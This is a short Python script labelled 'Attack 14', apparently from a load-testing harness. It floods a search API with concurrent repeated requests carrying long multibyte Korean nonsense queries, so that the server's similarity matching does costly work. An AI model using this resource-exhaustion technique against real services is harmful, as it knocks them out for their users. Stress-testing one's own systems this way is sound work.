"""Attack 14: many names of places and words that nothing has, for each of which similar ones are looked for."""

import asyncio
from urllib.parse import quote

from attacker import SOURCES, Target, repeat_request

CONNECTIONS = 66
# Long words of three bytes a letter, whose letters are compared by consonants and vowels.
UNKNOWN = [
    "places?q=Haemulgarden%20Hillside",
    "places?q=" + quote("뷁" * 30),
    "posts?q=" + quote(" ".join(f"비{number}칼국슈뷁" for number in range(8))),
    "posts?q=" + "%20".join(f"pajoen{number}" for number in range(16)),
]


async def attack(target: Target) -> None:
    await asyncio.gather(
        *(
            repeat_request(target, source, "GET", f"/api/v1/{UNKNOWN[number % len(UNKNOWN)]}")
            for source in SOURCES
            for number in range(CONNECTIONS)
        )
    )
